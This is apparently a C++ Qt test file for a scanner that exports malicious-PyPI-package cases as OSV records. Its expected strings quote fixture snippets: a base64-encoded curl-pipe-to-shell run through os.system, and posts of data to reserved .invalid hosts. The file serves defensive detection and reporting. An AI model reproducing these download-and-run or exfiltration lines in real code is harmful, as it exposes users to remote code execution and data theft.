// OSV export: the record of a case validated against the OSV schema's rules and the OpenSSF malicious-packages
// contribution rules (written out below), and the details written from the case.
#include "case_context.h"
#include "export_fixture.h"
#include "osv_details.h"
#include "osv_export.h"
#include "pypi_name.h"
#include "trigger.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

using namespace mph::app;

namespace {

// The rules, from the OSV schema (ossf.github.io/osv-schema, validation/schema.json) and the malicious-packages
// CONTRIBUTING.md "ideal report" section. Returns the first violation, or "".
QString violation(const QJsonObject &r) {
    static const QRegularExpression rfc3339(
        QStringLiteral(R"(^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$)"));
    static const QRegularExpression pypiName(QStringLiteral(R"(^[a-z0-9]([a-z0-9-]*[a-z0-9])?$)"));
    static const QStringList referenceTypes{"ADVISORY",   "ARTICLE", "DETECTION", "REPORT",   "FIX",
                                            "INTRODUCED", "GIT",     "PACKAGE",   "EVIDENCE", "WEB"};
    static const QStringList creditTypes{"FINDER",
                                         "REPORTER",
                                         "ANALYST",
                                         "COORDINATOR",
                                         "REMEDIATION_DEVELOPER",
                                         "REMEDIATION_REVIEWER",
                                         "REMEDIATION_VERIFIER",
                                         "TOOL",
                                         "SPONSOR",
                                         "OTHER"};
    static const QStringList allowed{"schema_version", "id",         "modified", "published",        "withdrawn",
                                     "aliases",        "related",    "summary",  "details",          "severity",
                                     "affected",       "references", "credits",  "database_specific"};
    for (const QString &key : r.keys())
        if (!allowed.contains(key)) return "unknown top-level field " + key;
    // Contribution rules: id and summary are assigned by the database.
    if (r.contains("id")) return "id must not be set";
    if (r.contains("summary")) return "summary must not be set";
    // Schema: modified is required; timestamps are RFC 3339 date-times.
    for (const char *key : {"modified", "published"}) {
        if (!r.value(key).isString()) return QString(key) + " must be a string";
        if (!rfc3339.match(r.value(key).toString()).hasMatch()) return QString(key) + " is not RFC 3339";
    }
    if (!r.value("schema_version").isString()) return "schema_version must be a string";
    if (!r.value("details").isString() || r.value("details").toString().isEmpty()) return "details must be text";
    // Exactly one affected entry, PyPI, PEP 503 name, purl matching the name.
    const QJsonValue affectedValue = r.value("affected");
    if (!affectedValue.isArray() || affectedValue.toArray().size() != 1) return "affected must have one entry";
    const QJsonObject affected = affectedValue.toArray().first().toObject();
    const QJsonObject package = affected.value("package").toObject();
    if (package.value("ecosystem").toString() != "PyPI") return "ecosystem must be PyPI";
    const QString name = package.value("name").toString();
    if (!pypiName.match(name).hasMatch()) return "package name is not PEP 503 normalised: " + name;
    if (package.value("purl").toString() != "pkg:pypi/" + name) return "purl does not match the name";
    if (!affected.value("versions").isArray() || affected.value("versions").toArray().isEmpty())
        return "versions must be a non-empty list";
    for (const QJsonValue &v : affected.value("versions").toArray())
        if (!v.isString() || v.toString().isEmpty()) return "versions must be strings";
    if (affected.contains("ecosystem_specific")) return "ecosystem_specific must not be set";
    if (affected.contains("database_specific")) {
        if (!affected.value("database_specific").isObject()) return "affected database_specific must be an object";
        for (const QString &key : affected.value("database_specific").toObject().keys())
            if (!QStringList{"cwes", "indicators", "iocs", "ghsa"}.contains(key))
                return "affected database_specific has unexpected key " + key;
    }
    // References: type enum, http(s) URL. Credits: name required, type enum.
    for (const QJsonValue &v : r.value("references").toArray()) {
        const QJsonObject ref = v.toObject();
        if (!referenceTypes.contains(ref.value("type").toString())) return "bad reference type";
        if (!QRegularExpression("^https?://\\S+$").match(ref.value("url").toString()).hasMatch()) return "bad URL";
    }
    for (const QJsonValue &v : r.value("credits").toArray()) {
        const QJsonObject credit = v.toObject();
        if (!credit.value("name").isString() || credit.value("name").toString().isEmpty()) return "credit needs a name";
        if (credit.contains("type") && !creditTypes.contains(credit.value("type").toString())) return "bad credit type";
    }
    // Contribution rules: credits or references has at least one entry.
    if (r.value("references").toArray().isEmpty() && r.value("credits").toArray().isEmpty())
        return "needs a reference or a credit";
    if (r.contains("database_specific") && !r.value("database_specific").isObject())
        return "database_specific must be an object";
    return {};
}

OsvCase makeCase(std::size_t rankingIndex) {
    const mph::ScanResult scan = fixture::makeScan();
    OsvCase oc;
    oc.caseFile = seedCase(scan, rankingIndex);
    const auto &text = scan.scriptOf(scan.scripts[scan.ranking[rankingIndex].entry]).text;
    oc.context = caseContext(scan, rankingIndex, QByteArray::fromStdString(text));
    oc.caseFile.verdict = Verdict::Malicious;
    oc.caseFile.analyst = "Ada Analyst";
    oc.caseFile.notes = "Downloads a shell script, see https://example.org/writeup.";
    oc.caseFile.tags = {"dropper"};
    oc.caseFile.evidence = {{"", 6, 6, "decodes and runs a shell command"}};
    oc.caseFile.created = QDateTime(QDate(2026, 11, 20), QTime(9, 30, 0), Qt::UTC);
    oc.caseFile.modified = QDateTime(QDate(2026, 11, 24), QTime(14, 5, 7), Qt::UTC);
    return oc;
}

// The demo corpus scanned once: its needles post to reserved hosts (resources/demo/README.md).
const mph::ScanResult &demoScan() {
    static const mph::ScanResult scan = [] {
        mph::ScanOptions options;
        options.demo = true;
        options.projection = false;
        return mph::runScan(options).result;
    }();
    return scan;
}

// The case of a demo batch package's script of `scope`.
OsvCase demoCase(const char *package, mph::Scope scope) {
    const mph::ScanResult &scan = demoScan();
    for (std::size_t i = 0; i < scan.ranking.size(); ++i) {
        const mph::ScriptEntry &entry = scan.scripts[scan.ranking[i].entry];
        if (scan.packageOf(entry).name != package || entry.scope != scope) continue;
        OsvCase oc;
        oc.caseFile = seedCase(scan, i);
        oc.caseFile.verdict = Verdict::Malicious;
        oc.context = caseContext(scan, i, QByteArray::fromStdString(std::string(scan.scriptOf(entry).text)));
        return oc;
    }
    return {};
}

} // namespace

class TestExportOsv : public QObject {
    Q_OBJECT
  private slots:
    void pep503Names() {
        QCOMPARE(normalizePypiName("Evil_Pkg.Name"), QString("evil-pkg-name"));
        QCOMPARE(normalizePypiName("A--b__.c"), QString("a-b-c"));
        QCOMPARE(normalizePypiName("Django"), QString("django"));
        QCOMPARE(pypiPurl("Friendly.Bard"), QString("pkg:pypi/friendly-bard"));
        QCOMPARE(pypiReleaseUrl("Foo_Bar", "1.0.post1"), QString("https://pypi.org/project/foo-bar/1.0.post1/"));
    }

    void validatorCatchesViolations() {
        const QJsonObject good = osvRecord(makeCase(0));
        QCOMPARE(violation(good), QString());
        QJsonObject withId = good;
        withId.insert("id", "MAL-0000-x");
        QVERIFY(!violation(withId).isEmpty());
        QJsonObject badTime = good;
        badTime.insert("modified", "2026-11-24 14:05");
        QVERIFY(!violation(badTime).isEmpty());
        QJsonObject badPurl = good;
        QJsonArray affected = badPurl.value("affected").toArray();
        QJsonObject entry = affected[0].toObject();
        QJsonObject package = entry.value("package").toObject();
        package.insert("purl", "pkg:pypi/Evil_Pkg.Name");
        entry.insert("package", package);
        affected[0] = entry;
        badPurl.insert("affected", affected);
        QVERIFY(!violation(badPurl).isEmpty());
    }

    void recordOfOneCase() {
        const QJsonObject r = osvRecord(makeCase(0));
        QCOMPARE(r.value("schema_version").toString(), QString("1.7.4"));
        QCOMPARE(r.value("published").toString(), QString("2026-11-20T09:30:00Z"));
        QCOMPARE(r.value("modified").toString(), QString("2026-11-24T14:05:07Z"));
        const QJsonObject affected = r.value("affected").toArray().first().toObject();
        QCOMPARE(affected.value("package").toObject().value("name").toString(), QString("evil-pkg-name"));
        QCOMPARE(affected.value("package").toObject().value("purl").toString(), QString("pkg:pypi/evil-pkg-name"));
        QCOMPARE(affected.value("versions").toArray(), QJsonArray{"1.0"});
        const QJsonObject indicators = affected.value("database_specific").toObject().value("indicators").toObject();
        QCOMPARE(indicators.value("evidence_files").toArray().first().toObject().value("sha256").toString(),
                 QString(64, 'b'));
        const QJsonObject integrity = indicators.value("package_integrity").toArray().first().toObject();
        QCOMPARE(integrity.value("filename").toString(), QString("Evil_Pkg.Name-1.0.tar.gz"));
        QCOMPARE(integrity.value("hashes").toObject().value("sha256").toString(), QString(64, 'a'));
        QCOMPARE(r.value("references").toArray(),
                 (QJsonArray{QJsonObject{{"type", "PACKAGE"}, {"url", "https://pypi.org/project/evil-pkg-name/1.0/"}},
                             QJsonObject{{"type", "WEB"}, {"url", "https://example.org/writeup"}}}));
        QCOMPARE(r.value("credits").toArray(), QJsonArray{QJsonObject({{"name", "Ada Analyst"}, {"type", "ANALYST"}})});

        const QJsonObject scores = r.value("database_specific")
                                       .toObject()
                                       .value("mphunter")
                                       .toObject()
                                       .value("scripts")
                                       .toArray()[0]
                                       .toObject();
        QCOMPARE(scores.value("score").toDouble(), 0.6875);
        QCOMPARE(scores.value("d_b").toDouble(), 0.9);
        QCOMPARE(scores.value("d_m").toDouble(), 0.25);
        QCOMPARE(scores.value("beta").toDouble(), 0.0036);
        QCOMPARE(scores.value("w_b").toDouble(), 0.4964);
        QCOMPARE(scores.value("size").toInt(), 5);
        QCOMPARE(scores.value("rank").toInt(), 1);
        QCOMPARE(scores.value("cluster").toInt(), -1);
        QCOMPARE(scores.value("archive_sha256").toString(), QString(64, 'a'));
        QCOMPARE(scores.value("script_sha256").toString(), QString(64, 'b'));
        QCOMPARE(scores.value("nearest_known").toObject().value("name").toString(), QString("known-bad"));
    }

    void detailsSayWhatAndHow() {
        const QString details = osvRecord(makeCase(0)).value("details").toString();
        QVERIFY2(details.contains("found malicious"), qPrintable(details));
        QVERIFY2(details.contains("pip executes Evil_Pkg.Name-1.0/setup.py"), qPrintable(details));
        QVERIFY2(details.contains("override the 'install' command."), qPrintable(details));
        QVERIFY2(details.contains("runs system commands: os.system (line 6)"), qPrintable(details));
        QVERIFY2(details.contains("executes dynamically built code: exec (line 8)"), qPrintable(details));
        QVERIFY2(details.contains("decodes or decompresses hidden data: base64.b64decode (line 6)"),
                 qPrintable(details));
        QVERIFY2(details.contains("shared with known malware (nearest known malicious script: known-bad 0.1, "
                                  "known-bad-0.1/setup.py): os.system (line 6), base64.b64decode (line 6)."),
                 qPrintable(details));
        QVERIFY2(details.contains("- Evil_Pkg.Name-1.0/setup.py, line 6: decodes and runs a shell command\n"
                                  "    6:         os.system(base64.b64decode('Y3VybCBldmlsIHwgc2g=').decode())"),
                 qPrintable(details));
        // The score as the ranking that produced it computed it: its formula, then its terms.
        QVERIFY2(details.contains("rank 1 of its batch (/data/batch-1), install scope, score 0.6875 = 0.2 · d_k/2 + "
                                  "0.8 · (d_nb − d_m + 2)/4 + 0.08 · evidence + 0.02 · capability with d_k "),
                 qPrintable(details));
        QVERIFY2(details.contains(", d_m 0.2500, evidence "), qPrintable(details));
        QVERIFY2(details.contains("an outlier of the clustering."), qPrintable(details));
    }

    // Calls in a file the script runs and in a decoded payload name their place; evidence in that file shows its line.
    void detailsNameFilesOutsideTheScript() {
        const mph::ScanResult scan = fixture::makeScanWithReach();
        OsvCase oc = makeCase(0);
        oc.context = caseContext(scan, 0, QByteArray::fromStdString(fixture::kSetupPy));
        oc.caseFile.evidence.append({"Evil_Pkg.Name-1.0/evil_pkg/_hooks.py", 3, 3, "posts the data"});
        const QString details = osvRecord(oc).value("details").toString();
        QVERIFY2(details.contains("talks to the network: requests.post (Evil_Pkg.Name-1.0/evil_pkg/_hooks.py:3)"),
                 qPrintable(details));
        QVERIFY2(details.contains("runs system commands: os.system (line 6; Evil_Pkg.Name-1.0/setup.py (layer 1):2)"),
                 qPrintable(details));
        QVERIFY2(details.contains("executes dynamically built code: exec (line 8)"), qPrintable(details));
        QVERIFY2(details.contains("- Evil_Pkg.Name-1.0/evil_pkg/_hooks.py, line 3: posts the data\n"
                                  "    3: requests.post('https://x.invalid', data=b'')"),
                 qPrintable(details));
    }

    void importAndStartupTriggers() {
        const QString details = osvRecord(makeCase(1)).value("details").toString();
        QVERIFY2(details.contains("whenever the package 'evil_pkg' is imported"), qPrintable(details));
        QVERIFY2(details.contains("talks to the network: socket.socket (line 2)"), qPrintable(details));
        const Trigger pth = triggerOf("foo-1.0/evil.pth", "import", "import os; os.system('x')\n");
        QCOMPARE(pth.kind, TriggerKind::InterpreterStart);
        const Trigger plain = triggerOf("foo/setup.py", "install", "from setuptools import setup\nsetup(name='x')\n");
        QCOMPARE(plain.kind, TriggerKind::Install);
        QCOMPARE(plain.commands, QStringList());
        const Trigger overridden =
            triggerOf("setup.py", "install", "setup(cmdclass=dict(develop=PostDevelop, install=PostInstall))\n");
        QCOMPARE(overridden.commands, (QStringList{"develop", "install"}));
    }

    void selectionGroupsByPackage() {
        OsvCase a = makeCase(0);
        OsvCase b = makeCase(1); // same release, import script
        OsvCase c = makeCase(0);
        c.caseFile.version = "1.1";
        c.caseFile.name = "evil-pkg-name"; // same project, other spelling
        c.caseFile.created = QDateTime(QDate(2026, 11, 18), QTime(8, 0, 0), Qt::UTC);
        OsvCase other = makeCase(0);
        other.caseFile.name = "OtherPkg";
        const QList<QJsonObject> records = osvRecords({a, b, other, c});
        QCOMPARE(records.size(), 2);
        for (const QJsonObject &r : records)
            QCOMPARE(violation(r), QString());
        const QJsonObject first = records[0].value("affected").toArray()[0].toObject();
        QCOMPARE(first.value("versions").toArray(), (QJsonArray{"1.0", "1.1"}));
        QCOMPARE(records[0].value("published").toString(), QString("2026-11-18T08:00:00Z"));
        QCOMPARE(first.value("database_specific")
                     .toObject()
                     .value("indicators")
                     .toObject()
                     .value("evidence_files")
                     .toArray()
                     .size(),
                 2);
        QCOMPARE(records[0]
                     .value("database_specific")
                     .toObject()
                     .value("mphunter")
                     .toObject()
                     .value("scripts")
                     .toArray()
                     .size(),
                 3);
        QCOMPARE(
            records[1].value("affected").toArray()[0].toObject().value("package").toObject().value("name").toString(),
            QString("otherpkg"));
    }

    void submissionLeavesOutScores() {
        OsvOptions options;
        options.forSubmission = true;
        const QJsonObject r = osvRecord(makeCase(0), options);
        QCOMPARE(violation(r), QString());
        QVERIFY(!r.contains("database_specific"));
    }

    void filesOnDisk() {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QList<QJsonObject> records = osvRecords({makeCase(0)});
        QString error;
        const QStringList written = saveOsvTree(records, dir.path(), &error);
        QCOMPARE(error, QString());
        QCOMPARE(written,
                 QStringList{dir.filePath("osv/malicious/pypi/evil-pkg-name/MAL-0000-mphunter-bbbbbbbbbbbbbbbb.json")});
        QFile file(written.first());
        QVERIFY(file.open(QIODevice::ReadOnly));
        QCOMPARE(QJsonDocument::fromJson(file.readAll()).object(), records.first());
        const QString single = dir.filePath("one.json");
        QCOMPARE(saveOsvFile(records, single), QString());
        QCOMPARE(saveOsvFile(records, dir.filePath("missing/dir/x.json")).isEmpty(), false);
    }

    // The demo needle syscfg-tools posts the environment to https://c2.example.invalid/s from its setup.py: the record
    // lists the URL and its host under database_specific.iocs, in submissions too (a key the database accepts).
    void iocsOfADemoNeedle() {
        const OsvCase needle = demoCase("syscfg-tools", mph::Scope::Install);
        QVERIFY(needle.context.valid);
        for (const bool submission : {false, true}) {
            OsvOptions options;
            options.forSubmission = submission;
            const QJsonObject r = osvRecord(needle, options);
            QCOMPARE(violation(r), QString());
            const QJsonObject specific = r.value("database_specific").toObject();
            QCOMPARE(specific.contains("mphunter"), !submission);
            const QJsonObject iocs = specific.value("iocs").toObject();
            QCOMPARE(iocs.value("urls").toArray(), QJsonArray{"https://c2.example.invalid/s"});
            QCOMPARE(iocs.value("domains").toArray(), QJsonArray{"c2.example.invalid"});
            QVERIFY(!iocs.contains("ip_addresses")); // only non-empty lists
        }
        // A layered needle: the host is in its innermost decoded layer only.
        const OsvCase layered = demoCase("sftpsync-utils", mph::Scope::Install);
        QVERIFY(layered.context.valid);
        const QJsonObject layeredIocs =
            osvRecord(layered).value("database_specific").toObject().value("iocs").toObject();
        QVERIFY2(!layeredIocs.value("domains").toArray().isEmpty(), QJsonDocument(layeredIocs).toJson().constData());
        for (const QJsonValue &domain : layeredIocs.value("domains").toArray())
            QVERIFY2(domain.toString().endsWith(".invalid"), qPrintable(domain.toString())); // not setup(url=...)
        bool fromLayer = false;
        for (const FoundIndicator &found : layered.context.indicators.found)
            fromLayer = fromLayer || found.places.join(",").contains("layer");
        QVERIFY(fromLayer);
        // A benign demo package gives none: no iocs key at all.
        const OsvCase benign = demoCase("nimbus-sdk-auth", mph::Scope::Install);
        QVERIFY(benign.context.valid);
        QVERIFY(!osvRecord(benign).value("database_specific").toObject().contains("iocs"));
    }

    void caseWithoutScanStillValid() {
        OsvCase oc = makeCase(0);
        oc.context = CaseContext{};
        oc.caseFile.analyst.clear();
        oc.caseFile.notes.clear();
        const QJsonObject r = osvRecord(oc);
        QCOMPARE(violation(r), QString());
        QVERIFY(!r.contains("credits"));
        QVERIFY(r.value("details").toString().contains("reviewed by an analyst"));
    }
};

QTEST_GUILESS_MAIN(TestExportOsv)
#include "tst_export_osv.moc"
